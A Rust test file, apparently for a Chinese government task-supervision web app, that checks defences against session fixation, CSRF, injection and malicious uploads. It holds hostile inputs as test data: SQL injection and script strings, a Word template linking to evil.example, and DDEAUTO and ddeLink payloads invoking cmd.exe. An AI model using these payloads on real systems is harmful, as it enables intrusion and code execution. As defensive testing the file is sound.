//! Attacks a 等保 assessor tries, on SQLite and PostgreSQL: a fixed session id, a tampered cookie or
//! token, SQL and HTML injection through forms and search, and the security headers on every answer.

mod common;

use common::{Client, dt, with_demo};
use serde_json::json;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_session_id_cannot_be_fixed_or_forged() {
    each_backend!(|b| {
        let now = dt("2026-11-23 10:00");
        let Some((tdb, app)) = with_demo(b, now).await else { continue };
        let planted = "a".repeat(64);
        let c = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
        // An attacker plants a cookie; signing in issues a new, different session.
        let (login_cookie, token) = common::login_form_token(&app).await;
        let r = c
            .post(app.url("/login"))
            .header("cookie", format!("xt_session={planted}; {login_cookie}"))
            .form(&[
                ("_csrf", token.as_str()),
                ("username", "jsj_lly"),
                ("password", xietong_demo::DEMO_PASSWORD),
                ("next", "/todo"),
            ])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 303);
        let set = r.headers()["set-cookie"].to_str().unwrap().to_string();
        let issued = set.split(';').next().unwrap().trim_start_matches("xt_session=").to_string();
        assert_ne!(issued, planted);
        assert!(set.contains("HttpOnly") && set.contains("SameSite=Lax"), "{set}");
        let r = c.get(app.url("/todo")).header("cookie", format!("xt_session={planted}")).send().await.unwrap();
        assert_eq!(r.status(), 303, "the planted id is no session");
        assert_eq!(
            c.get(app.url("/todo")).header("cookie", format!("xt_session={issued}")).send().await.unwrap().status(),
            200
        );
        // One character changed: refused, for the cookie and for a bearer token.
        let mut tampered = issued.clone().into_bytes();
        tampered[10] = if tampered[10] == b'0' { b'1' } else { b'0' };
        let tampered = String::from_utf8(tampered).unwrap();
        assert_eq!(
            c.get(app.url("/todo")).header("cookie", format!("xt_session={tampered}")).send().await.unwrap().status(),
            303
        );
        let r = c.get(app.url("/api/me")).bearer_auth(&tampered).send().await.unwrap();
        assert_eq!(r.status(), 401);
        let body: serde_json::Value = r.json().await.unwrap();
        assert_eq!(body["error"], "未登录或会话已过期，请重新登录");
        // An absurdly long token is not even looked up.
        assert_eq!(c.get(app.url("/api/me")).bearer_auth("x".repeat(10_000)).send().await.unwrap().status(), 401);
        tdb.cleanup().await;
    });
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn injection_strings_are_stored_and_shown_inert() {
    each_backend!(|b| {
        let now = dt("2026-11-23 10:00");
        let Some((tdb, app)) = with_demo(b, now).await else { continue };
        let qiye = Client::login(&app, "qiye").await;
        let sql = "架桥机'; DROP TABLE tasks; --";
        let html = "<script>alert('xt')</script><img src=x onerror=alert(1)>焊接残余应力需要消除";
        let (s, v) = qiye
            .post("/api/tech-problems", json!({"title": sql, "description": html, "keywords": "' OR 1=1 --"}))
            .await;
        assert_eq!(s, 201, "{v}");
        let id = v["id"].as_i64().unwrap();
        let (_, list) = qiye.get("/api/tech-problems").await;
        let p = list.as_array().unwrap().iter().find(|p| p["id"] == id).unwrap().clone();
        assert_eq!((p["title"].as_str(), p["description"].as_str()), (Some(sql), Some(html)), "stored as typed");
        let n: i64 = sqlx::Row::try_get(
            &sqlx::query("SELECT COUNT(*) AS n FROM tasks").fetch_one(&tdb.db.pool).await.unwrap(),
            "n",
        )
        .unwrap();
        assert!(n > 0, "the tasks table is still there");
        // The page escapes it.
        let c = reqwest::Client::builder().cookie_store(true).build().unwrap();
        common::form_login(&c, &app, "qiye", xietong_demo::DEMO_PASSWORD).await;
        let page = c.get(app.url(&format!("/docking/problems/{id}"))).send().await.unwrap().text().await.unwrap();
        assert!(!page.contains("<script>alert") && !page.contains("<img src=x"), "no live markup from user text");
        assert!(page.contains("&lt;script&gt;"), "shown as text");
        // Search and filters take the same strings as data.
        let tech = Client::login(&app, "kejiju").await;
        for q in ["' OR 1=1 --", "\"; DROP TABLE achievements; --", "%' AND '1'='1", "\\\\'", "尼龙) OR (1=1"] {
            let (s, v) = tech.post("/api/achievements/match", json!({"q": q})).await;
            assert!(s == 200 || s == 400, "{q}: {s} {v}");
        }
        let sup = Client::login(&app, "duchaju").await;
        let (s, v) = sup.get("/api/tasks?q=%27%20OR%201%3D1%20--").await;
        assert_eq!((s, v["total"].as_i64()), (200, Some(0)), "{v}");
        tdb.cleanup().await;
    });
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_answer_carries_the_security_headers() {
    each_backend!(|b| {
        let now = dt("2026-11-23 10:00");
        let Some((tdb, app)) = with_demo(b, now).await else { continue };
        let c = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
        for path in ["/login", "/todo", "/api/me", "/api/openapi.json", "/health", "/no-such-page"] {
            let r = c.get(app.url(path)).send().await.unwrap();
            let h = r.headers();
            assert_eq!(h["x-frame-options"], "DENY", "{path}");
            assert_eq!(h["x-content-type-options"], "nosniff", "{path}");
            assert!(h["content-security-policy"].to_str().unwrap().contains("frame-ancestors 'none'"), "{path}");
        }
        tdb.cleanup().await;
    });
}

/// Login CSRF: the login form needs its own token, and a form posted from another site is refused
/// whatever it carries — the login form and every other state-changing form or cookie API call.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forms_from_another_site_and_logins_without_a_token_are_refused() {
    each_backend!(|b| {
        let now = dt("2026-11-23 10:00");
        let Some((tdb, app)) = with_demo(b, now).await else { continue };
        let pw = xietong_demo::DEMO_PASSWORD;
        let c = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
        let (login_cookie, token) = common::login_form_token(&app).await;
        let form = |t: &str| vec![("_csrf", t.to_string()), ("username", "jsj_lly".into()), ("password", pw.into())];
        let sessions = |set: &reqwest::header::HeaderMap| {
            set.get_all("set-cookie").iter().filter(|v| v.to_str().unwrap().starts_with("xt_session=")).count()
        };
        // No token, or a token that is not the cookie's: refused, and no session is made.
        for (cookie, t) in [("", ""), (login_cookie.as_str(), ""), (login_cookie.as_str(), "0".repeat(64).as_str())] {
            let r = c.post(app.url("/login")).header("cookie", cookie).form(&form(t)).send().await.unwrap();
            assert_eq!(r.status(), 403);
            assert_eq!(sessions(r.headers()), 0);
            assert!(r.text().await.unwrap().contains("登录页面已过期或来源无效"));
        }
        // The right token from another site: refused before the password is looked at.
        let before = tdb.db.recent_logins(100).await.unwrap().len();
        for (h, v) in [("origin", "https://evil.example"), ("origin", "null"), ("referer", "http://evil.example/x")] {
            let r = c
                .post(app.url("/login"))
                .header("cookie", login_cookie.as_str())
                .header(h, v)
                .form(&form(&token))
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), 403, "{h}: {v}");
            assert_eq!(sessions(r.headers()), 0);
            assert!(r.text().await.unwrap().contains("请求来源与本站不一致"), "{h}: {v}");
        }
        assert_eq!(tdb.db.recent_logins(100).await.unwrap().len(), before, "not even an attempt");
        // The site's own page, as a browser sends it: signed in.
        let r = c
            .post(app.url("/login"))
            .header("cookie", login_cookie.as_str())
            .header("origin", app.base.as_str())
            .form(&form(&token))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 303);
        assert_eq!(sessions(r.headers()), 1);
        let session = r.headers()["set-cookie"].to_str().unwrap().split(';').next().unwrap().to_string();

        // Signed in, a form with the right CSRF token but from another site is refused too …
        let html =
            c.get(app.url("/todo")).header("cookie", session.as_str()).send().await.unwrap().text().await.unwrap();
        let csrf = common::hidden_csrf(&html);
        let r = c
            .post(app.url("/logout"))
            .header("cookie", session.as_str())
            .header("origin", "https://evil.example")
            .form(&[("_csrf", csrf.as_str())])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 403);
        assert!(r.text().await.unwrap().contains("请求来源与本站不一致"), "a Chinese page");
        // … and so is a cookie API call (JSON in the API's error shape); a bearer token is not a browser's.
        let r = c
            .delete(app.url("/api/sessions"))
            .header("cookie", session.as_str())
            .header("x-csrf-token", csrf.as_str())
            .header("origin", "https://evil.example")
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 403);
        let v: serde_json::Value = r.json().await.unwrap();
        assert_eq!(v["error"], "请求来源与本站不一致，已拒绝（请从本系统页面提交）");
        assert_eq!(c.get(app.url("/todo")).header("cookie", session.as_str()).send().await.unwrap().status(), 200);
        let api = Client::login(&app, "jsj_lly").await;
        let r = api.http.get(app.url("/api/me")).bearer_auth(&api.token).header("origin", "https://evil.example");
        assert_eq!(r.send().await.unwrap().status(), 200);
        let r = api
            .http
            .delete(app.url("/api/session"))
            .bearer_auth(&api.token)
            .header("origin", "https://evil.example")
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 204, "bearer-token clients are not checked for Origin");
        // The same site's form: accepted.
        let r = c
            .post(app.url("/logout"))
            .header("cookie", session.as_str())
            .header("origin", app.base.as_str())
            .form(&[("_csrf", csrf.as_str())])
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 303);
        tdb.cleanup().await;
    });
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secure_cookies_and_hsts_come_with_the_setting() {
    each_backend!(|b| {
        let now = dt("2026-11-23 10:00");
        let Some(tdb) = common::fresh(b).await else { continue };
        xietong_demo::load(&tdb.db, now).await.unwrap();
        for secure in [false, true] {
            let deployment = xietong_web::Deployment { secure_cookies: secure, ..Default::default() };
            let app = common::spawn_app_with(tdb.db.clone(), now, deployment).await;
            let c = reqwest::Client::builder().redirect(reqwest::redirect::Policy::none()).build().unwrap();
            let r = c.get(app.url("/login")).send().await.unwrap();
            assert_eq!(r.headers().contains_key("strict-transport-security"), secure);
            if secure {
                assert_eq!(r.headers()["strict-transport-security"], "max-age=31536000");
            }
            let login_cookie = r.headers()["set-cookie"].to_str().unwrap().to_string();
            assert_eq!(login_cookie.contains("; Secure"), secure, "{login_cookie}");
            assert!(login_cookie.contains("HttpOnly") && login_cookie.contains("SameSite=Strict"), "{login_cookie}");
            let token = common::hidden_csrf(&r.text().await.unwrap());
            let r = c
                .post(app.url("/login"))
                .header("cookie", login_cookie.split(';').next().unwrap())
                .form(&[("_csrf", token.as_str()), ("username", "jsj_lly"), ("password", xietong_demo::DEMO_PASSWORD)])
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), 303);
            let session = r.headers()["set-cookie"].to_str().unwrap().to_string();
            assert!(session.starts_with("xt_session="));
            assert_eq!(session.contains("; Secure"), secure, "{session}");
            let h = c.get(app.url("/api/me")).send().await.unwrap();
            assert_eq!(h.headers().contains_key("strict-transport-security"), secure, "every answer, errors too");
        }
        tdb.cleanup().await;
    });
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn forwarded_for_is_believed_only_from_a_trusted_proxy() {
    each_backend!(|b| {
        let now = dt("2026-11-23 10:00");
        let Some(tdb) = common::fresh(b).await else { continue };
        xietong_demo::load(&tdb.db, now).await.unwrap();
        // (trusted proxies, X-Forwarded-For sent, the address the 登录日志 keeps)
        for (trusted, xff, logged) in [
            ("", "203.0.113.9", "127.0.0.1"),
            ("127.0.0.1", "203.0.113.9", "203.0.113.9"),
            // A client's own header is left of what the proxy appended: the right-most untrusted hop counts.
            ("127.0.0.1", "1.1.1.1, 203.0.113.9", "203.0.113.9"),
            ("127.0.0.0/8, 10.0.0.0/8", "1.1.1.1, 203.0.113.9, 10.0.0.7", "203.0.113.9"),
        ] {
            let deployment = xietong_web::Deployment {
                trusted_proxies: xietong_web::auth::parse_trusted_proxies(trusted).unwrap(),
                ..Default::default()
            };
            let app = common::spawn_app_with(tdb.db.clone(), now, deployment).await;
            let r = reqwest::Client::new()
                .post(app.url("/api/session"))
                .header("x-forwarded-for", xff)
                .json(&json!({"username": "xff_probe", "password": "Wrong@2026"}))
                .send()
                .await
                .unwrap();
            assert_eq!(r.status(), 403);
            let last = tdb.db.recent_logins(1).await.unwrap().remove(0);
            assert_eq!((last.username.as_str(), last.address.as_str()), ("xff_probe", logged), "{trusted} / {xff}");
        }
        assert!(xietong_web::auth::parse_trusted_proxies("10.0.0.0/33").unwrap_err().contains("10.0.0.0/33"));
        tdb.cleanup().await;
    });
}

/// A zip package with parts added (or replaced).
fn with_parts(package: &[u8], parts: &[(&str, &str)]) -> Vec<u8> {
    use std::io::Write;
    let mut r = zip::ZipArchive::new(std::io::Cursor::new(package)).unwrap();
    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    for i in 0..r.len() {
        let f = r.by_index_raw(i).unwrap();
        let name = f.name().unwrap().into_owned();
        if !parts.iter().any(|(n, _)| *n == name) {
            w.raw_copy_file(f).unwrap();
        }
    }
    for (name, text) in parts {
        w.start_file(*name, zip::write::SimpleFileOptions::default()).unwrap();
        w.write_all(text.as_bytes()).unwrap();
    }
    w.finish().unwrap().into_inner()
}

const RELS: &str = "http://schemas.openxmlformats.org/package/2006/relationships";
const OFFICE_REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

async fn multipart(
    c: &Client,
    method: reqwest::Method,
    path: &str,
    name: &str,
    bytes: Vec<u8>,
) -> (u16, serde_json::Value) {
    let form = reqwest::multipart::Form::new()
        .part("file", reqwest::multipart::Part::bytes(bytes).file_name(name.to_string()));
    let r = c
        .http
        .request(method, format!("{}{}", c.base, path))
        .bearer_auth(&c.token)
        .multipart(form)
        .send()
        .await
        .unwrap();
    let s = r.status().as_u16();
    (s, r.json().await.unwrap_or(serde_json::Value::Null))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploads_that_reach_outside_the_file_are_refused() {
    each_backend!(|b| {
        let now = dt("2026-11-23 10:00");
        let Some((tdb, app)) = with_demo(b, now).await else { continue };
        let sup = Client::login(&app, "duchaju").await;
        // A Word template that pulls a remote template in when opened (the way around the macro ban).
        let (_, template) = sup.bytes("/api/notice-template").await;
        let settings_rels = format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Relationships xmlns=\"{RELS}\"><Relationship Id=\"rId1\" Type=\"{OFFICE_REL}/attachedTemplate\" Target=\"http://evil.example/normal.dotm\" TargetMode=\"External\"/></Relationships>"
        );
        let settings = format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"{OFFICE_REL}\"><w:attachedTemplate r:id=\"rId1\"/></w:settings>"
        );
        let evil = with_parts(
            &template,
            &[("word/settings.xml", &settings), ("word/_rels/settings.xml.rels", &settings_rels)],
        );
        let audits = common::fingerprint(&tdb.db).await;
        let (s, v) = multipart(&sup, reqwest::Method::PUT, "/api/notice-template", "通报模板.docx", evil).await;
        assert_eq!(s, 400, "{v}");
        let e = v["error"].as_str().unwrap();
        assert!(e.contains("外部模板（attachedTemplate）") && e.contains("http://evil.example/normal.dotm"), "{e}");
        assert_eq!(common::fingerprint(&tdb.db).await, audits, "nothing saved");
        assert_eq!(sup.bytes("/api/notice-template").await.1, template, "the template in use is unchanged");
        // The same file without the link is accepted (the refusal was the link).
        let plain = with_parts(
            &template,
            &[("word/settings.xml", &settings.replace("<w:attachedTemplate r:id=\"rId1\"/>", ""))],
        );
        assert_eq!(multipart(&sup, reqwest::Method::PUT, "/api/notice-template", "通报模板.docx", plain).await.0, 204);
        // A DDE field in the body.
        let (_, template) = sup.bytes("/api/notice-template").await;
        let doc = {
            let mut z = zip::ZipArchive::new(std::io::Cursor::new(template.as_slice())).unwrap();
            let mut s = String::new();
            std::io::Read::read_to_string(&mut z.by_name("word/document.xml").unwrap(), &mut s).unwrap();
            s
        };
        let dde = doc.replacen(
            "<w:body>",
            "<w:body><w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText xml:space=\"preserve\"> DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/c calc\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>",
            1,
        );
        let (s, v) = multipart(
            &sup,
            reqwest::Method::PUT,
            "/api/notice-template",
            "t.docx",
            with_parts(&template, &[("word/document.xml", &dde)]),
        )
        .await;
        assert_eq!(s, 400, "{v}");
        assert!(v["error"].as_str().unwrap().contains("域代码「DDEAUTO"), "{v}");

        // An import whose sheet links to the outside, or to another workbook: refused, nothing written.
        let (_, xlsx) = sup.bytes("/api/templates/tasks").await;
        let sheet_rels = format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships xmlns=\"{RELS}\"><Relationship Id=\"rId7\" Type=\"{OFFICE_REL}/hyperlink\" Target=\"http://evil.example/\" TargetMode=\"External\"/></Relationships>"
        );
        let before = common::fingerprint(&tdb.db).await;
        for (part, text, named) in [
            ("xl/worksheets/_rels/sheet1.xml.rels", sheet_rels.as_str(), "外部超链接 → http://evil.example/"),
            (
                "xl/externalLinks/externalLink1.xml",
                "<externalLink xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"/></externalLink>",
                "外部工作簿链接",
            ),
        ] {
            let (s, v) = multipart(
                &sup,
                reqwest::Method::POST,
                "/api/imports/tasks",
                "任务.xlsx",
                with_parts(&xlsx, &[(part, text)]),
            )
            .await;
            assert_eq!(s, 400, "{v}");
            assert!(v["error"].as_str().unwrap().contains(named), "{v}");
        }
        assert_eq!(common::fingerprint(&tdb.db).await, before);
        tdb.cleanup().await;
    });
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_oversized_body_is_413_in_the_api_error_shape() {
    each_backend!(|b| {
        let now = dt("2026-11-23 10:00");
        let Some((tdb, app)) = with_demo(b, now).await else { continue };
        let sup = Client::login(&app, "duchaju").await;
        // 21 MB, over the 20 MB upload limit: 413, JSON, in Chinese, naming the limit.
        let (s, v) =
            multipart(&sup, reqwest::Method::POST, "/api/imports/tasks", "big.xlsx", vec![b'x'; 21 * 1024 * 1024])
                .await;
        assert_eq!(s, 413, "{v}");
        assert_eq!(v["error"], "上传文件过大：超过 20 MB 的上限，请拆分后分批上传");
        // 3 MB used to be cut off at 2 MB (400); now it is read, and refused for what it is.
        let (s, v) =
            multipart(&sup, reqwest::Method::POST, "/api/imports/tasks", "mid.xlsx", vec![b'x'; 3 * 1024 * 1024]).await;
        assert_eq!(s, 400, "{v}");
        assert!(v["error"].as_str().unwrap().contains("不是有效的 Excel 文件"), "{v}");
        // A JSON body over 2 MB, declared or streamed without a length: 413 in the same shape.
        let big = serde_json::to_vec(&json!({"title": "x".repeat(3 * 1024 * 1024)})).unwrap();
        let r = sup
            .http
            .post(app.url("/api/tasks"))
            .bearer_auth(&sup.token)
            .header("content-type", "application/json")
            .body(big.clone())
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 413);
        assert_eq!(r.json::<serde_json::Value>().await.unwrap()["error"], "请求内容过大：超过 2 MB 的上限");
        let (status, body) = chunked_post(&app, "/api/tasks", &sup.token, &big).await;
        assert_eq!(status, 413, "{body}");
        assert!(body.contains("请求内容过大：超过 2 MB 的上限"), "{body}");
        // Other errors of the router itself are JSON and Chinese too.
        let r = sup.http.get(app.url("/api/tasks/abc")).bearer_auth(&sup.token).send().await.unwrap();
        assert_eq!(r.status(), 400);
        let e = r.json::<serde_json::Value>().await.unwrap()["error"].as_str().unwrap().to_string();
        assert!(e.contains("地址中的编号无效") && !e.contains("Cannot parse"), "{e}");
        let r = sup
            .http
            .post(app.url("/api/tasks"))
            .bearer_auth(&sup.token)
            .header("content-type", "text/plain")
            .body("x")
            .send()
            .await
            .unwrap();
        assert!(r.status().is_client_error());
        let v: serde_json::Value = r.json().await.unwrap();
        assert!(v["error"].as_str().is_some_and(|e| !e.is_ascii()), "{v}");
        // A page's upload over the limit: a Chinese page.
        let c = reqwest::Client::builder().cookie_store(true).build().unwrap();
        common::form_login(&c, &app, "duchaju", xietong_demo::DEMO_PASSWORD).await;
        let csrf = common::hidden_csrf(&c.get(app.url("/imports")).send().await.unwrap().text().await.unwrap());
        let form = reqwest::multipart::Form::new()
            .part("file", reqwest::multipart::Part::bytes(vec![b'x'; 21 * 1024 * 1024]).file_name("big.xlsx"));
        let r = c.post(app.url(&format!("/imports/tasks?_csrf={csrf}"))).multipart(form).send().await.unwrap();
        assert_eq!(r.status(), 413);
        assert!(r.headers()["content-type"].to_str().unwrap().starts_with("text/html"));
        assert!(r.text().await.unwrap().contains("上传文件过大：超过 20 MB 的上限"));
        tdb.cleanup().await;
    });
}

/// A POST whose body is sent in chunks without a declared length (the limit must still hold).
async fn chunked_post(app: &common::TestApp, path: &str, token: &str, body: &[u8]) -> (u16, String) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let host = app.base.trim_start_matches("http://");
    let mut s = tokio::net::TcpStream::connect(host).await.unwrap();
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {token}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n"
    );
    s.write_all(head.as_bytes()).await.unwrap();
    for c in body.chunks(64 * 1024) {
        // The server may answer and close before all is sent.
        if s.write_all(format!("{:x}\r\n", c.len()).as_bytes()).await.is_err()
            || s.write_all(c).await.is_err()
            || s.write_all(b"\r\n").await.is_err()
        {
            break;
        }
    }
    let _ = s.write_all(b"0\r\n\r\n").await;
    let mut out = vec![];
    let _ = s.read_to_end(&mut out).await;
    let text = String::from_utf8_lossy(&out).into_owned();
    let status = text.split(' ').nth(1).and_then(|c| c.parse().ok()).unwrap_or(0);
    (status, text)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn page_numbers_are_bounded_and_never_overflow() {
    each_backend!(|b| {
        let now = dt("2026-11-23 10:00");
        let Some((tdb, app)) = with_demo(b, now).await else { continue };
        let sup = Client::login(&app, "duchaju").await;
        for (q, field) in [
            ("page=9223372036854775807", "page"),
            ("page=0", "page"),
            ("page=-3", "page"),
            ("page=100001", "page"),
            ("page_size=9223372036854775807", "page_size"),
            ("page_size=0", "page_size"),
            ("page=2&page_size=501", "page_size"),
        ] {
            let (s, v) = sup.get(&format!("/api/tasks?{q}")).await;
            assert_eq!((s, v["field"].as_str()), (400, Some(field)), "{q}: {v}");
            assert!(v["error"].as_str().unwrap().contains("应在 1 到"), "{v}");
        }
        let (s, v) = sup.get("/api/tasks?page=100000&page_size=500").await;
        assert_eq!((s, v["items"].as_array().map(|a| a.len())), (200, Some(0)), "the last page allowed: {v}");
        let (s, v) = sup.get("/api/tasks?page=99999999999999999999").await;
        assert_eq!(s, 400, "{v}");
        let c = reqwest::Client::builder().cookie_store(true).build().unwrap();
        common::form_login(&c, &app, "duchaju", xietong_demo::DEMO_PASSWORD).await;
        let r = c.get(app.url("/tasks?page=9223372036854775807")).send().await.unwrap();
        assert_eq!(r.status(), 400);
        assert!(r.text().await.unwrap().contains("页码应在 1 到 100000 之间"));
        tdb.cleanup().await;
    });
}

async fn count(db: &xietong_storage::Db, table: &str) -> i64 {
    let r = sqlx::query(sqlx::AssertSqlSafe(format!("SELECT COUNT(*) AS n FROM {table}"))).fetch_one(&db.pool).await;
    sqlx::Row::try_get(&r.unwrap(), "n").unwrap()
}

fn task(lead: i64, title: &str, doc_no: &str) -> serde_json::Value {
    json!({"title": title, "source_kind": "meeting", "doc_no": doc_no, "source_date": "2026-11-20", "lead_unit_id": lead,
           "report_cycle": "weekly", "deadline": "2026-12-18", "assign_now": true})
}

/// PostgreSQL refuses NUL in text (a 500 before), SQLite stored it: now both refuse it first,
/// naming the field, and write nothing.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn nul_in_text_is_refused_naming_the_field() {
    each_backend!(|b| {
        let Some((tdb, app)) = with_demo(b, dt("2026-11-23 10:00")).await else { continue };
        let qiye = Client::login(&app, "qiye").await;
        let before = count(&tdb.db, "tech_problems").await;
        let body = json!({"title": "焊接残余应力消除", "description": "大型焊接结构件的残余应力需要在现场消除。", "keywords": "焊接\u{0}应力"});
        let (s, v) = qiye.post("/api/tech-problems", body).await;
        assert_eq!((s, v["field"].as_str()), (400, Some("关键词")), "{v}");
        assert_eq!(v["error"], "字段「关键词」含不可见或控制字符（U+0000），请删除后重试");
        assert_eq!(count(&tdb.db, "tech_problems").await, before);

        let admin = Client::login(&app, "admin").await;
        let before = count(&tdb.db, "units").await;
        let (s, v) =
            admin.post("/api/units", json!({"code": "nul1", "name": "测试\u{0}单位", "kind": "区政府部门"})).await;
        assert_eq!((s, v["field"].as_str()), (400, Some("单位名称")), "{v}");
        assert!(v["error"].as_str().unwrap().contains("U+0000"), "{v}");
        let (s, v) =
            admin.post("/api/units", json!({"code": "nul\u{0}2", "name": "测试单位", "kind": "区政府部门"})).await;
        assert_eq!((s, v["field"].as_str()), (400, Some("单位编码")), "{v}");
        assert_eq!(count(&tdb.db, "units").await, before);

        // A NUL that is only looked up (a search) is a 400 too, never a 500.
        let sup = Client::login(&app, "duchaju").await;
        let (s, v) = sup.get("/api/tasks?q=%00").await;
        assert_eq!(s, 400, "{v}");
        let jsj = sup.unit_id("jsj").await;
        let (s, v) = sup.post("/api/tasks", task(jsj, "背街小巷\u{0}整治", "NUL〔2026〕1号")).await;
        assert_eq!((s, v["field"].as_str()), (400, Some("任务名称")), "{v}");
        tdb.cleanup().await;
    });
}

const DOC: &str = "RT唯一〔2026〕7号";

/// 文号 that look the same are the same 文号: zero-width characters and a BOM at the ends are
/// stripped (and inside, refused as invisible), full-width digits and letters, case, spacing and
/// the year brackets are compared in their NFKC key.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn look_alike_doc_nos_are_refused() {
    each_backend!(|b| {
        let Some((tdb, app)) = with_demo(b, dt("2026-11-23 10:00")).await else { continue };
        let sup = Client::login(&app, "duchaju").await;
        let jsj = sup.unit_id("jsj").await;
        let (s, v) = sup.post("/api/tasks", task(jsj, "唯一性测试", DOC)).await;
        assert_eq!(s, 201, "{v}");
        let tasks = count(&tdb.db, "tasks").await;
        let duplicates = [
            format!("{DOC}\u{200B}"),
            format!("\u{2060}{DOC}"),
            format!("\u{FEFF}{DOC}"),
            DOC.replace('7', "７"),
            DOC.replace("RT", "ＲＴ").replace("2026", "２０２６"),
            DOC.replace("RT", "rt"),
            DOC.replace('〔', "[").replace('〕', "]"),
            DOC.replace('〕', "〕 "),
        ];
        for d in &duplicates {
            let (s, v) = sup.post("/api/tasks", task(jsj, "唯一性测试", d)).await;
            assert_eq!((s, v["field"].as_str()), (400, Some("文号")), "{d:?}: {v}");
            assert!(v["error"].as_str().unwrap().contains("已存在"), "{d:?}: {v}");
        }
        for (d, cp) in [
            ("RT唯一〔2026〕\u{200B}7号", "U+200B"),
            ("RT唯一〔2026〕\u{2060}7号", "U+2060"),
            ("RT\u{202E}唯一〔2026〕7号", "U+202E"),
        ] {
            let (s, v) = sup.post("/api/tasks", task(jsj, "唯一性测试", d)).await;
            assert_eq!((s, v["field"].as_str()), (400, Some("文号")), "{d:?}: {v}");
            assert!(v["error"].as_str().unwrap().contains(cp), "{d:?}: {v}");
        }
        assert_eq!(count(&tdb.db, "tasks").await, tasks, "nothing written");
        // The lookup by 文号 finds the task from any look-alike.
        let id = v["id"].as_i64();
        for d in &duplicates {
            assert_eq!(tdb.db.task_id_by_doc_no(d).await.unwrap(), id, "{d:?}");
        }
        // 通报 文号 too.
        let body = |doc: &str| {
            json!({"kind": "praise", "doc_no": doc, "title": "表扬通报", "body": "按期办结。", "issued_on": "2026-11-20",
                   "targets": [{"unit_id": jsj}]})
        };
        let (s, v) = sup.post("/api/notices", body("督通〔2026〕3号")).await;
        assert_eq!(s, 201, "{v}");
        let (s, v) = sup.post("/api/notices", body("督通〔２０２６〕３号")).await;
        assert_eq!((s, v["field"].as_str()), (400, Some("文号")), "{v}");
        tdb.cleanup().await;
    });
}

/// Sixteen look-alike 文号, each a different string, created at once: the unique index on the
/// key decides, exactly one is created and the others are told why, never a 5xx.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn concurrent_look_alike_doc_nos_create_one_task() {
    each_backend!(|b| {
        let Some((tdb, app)) = with_demo(b, dt("2026-11-23 10:00")).await else { continue };
        let sup = std::sync::Arc::new(Client::login(&app, "duchaju").await);
        let jsj = sup.unit_id("jsj").await;
        let tasks = count(&tdb.db, "tasks").await;
        // Each of the digits 2, 0, 2, 6 half- or full-width: 16 different strings, one key.
        let variants: Vec<String> = (0..16u32)
            .map(|m| {
                let mut i = 0;
                "RT并发〔2026〕7号"
                    .chars()
                    .map(|c| {
                        let wide = c.is_ascii_digit() && c != '7' && {
                            i += 1;
                            m & (1 << (i - 1)) != 0
                        };
                        if wide { char::from_u32(c as u32 - 0x30 + 0xFF10).unwrap() } else { c }
                    })
                    .collect()
            })
            .collect();
        assert_eq!(variants.iter().collect::<std::collections::HashSet<_>>().len(), 16);
        let mut handles = vec![];
        for d in variants {
            let (sup, body) = (sup.clone(), task(jsj, "并发唯一性测试", &d));
            handles.push(tokio::spawn(async move { sup.post("/api/tasks", body).await }));
        }
        let mut created = 0;
        for h in handles {
            let (s, v) = h.await.unwrap();
            assert!(s == 201 || (s == 400 && v["field"] == "文号"), "{s} {v}");
            created += (s == 201) as i64;
        }
        assert_eq!(created, 1);
        assert_eq!(count(&tdb.db, "tasks").await, tasks + 1);
        tdb.cleanup().await;
    });
}

/// A right-to-left override makes a title read differently from what it holds.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bidi_overrides_in_titles_are_refused() {
    each_backend!(|b| {
        let Some((tdb, app)) = with_demo(b, dt("2026-11-23 10:00")).await else { continue };
        let sup = Client::login(&app, "duchaju").await;
        let jsj = sup.unit_id("jsj").await;
        let (s, v) = sup.post("/api/tasks", task(jsj, "背街小巷整治\u{202E}rcod.exe", "双向〔2026〕1号")).await;
        assert_eq!((s, v["field"].as_str()), (400, Some("任务名称")), "{v}");
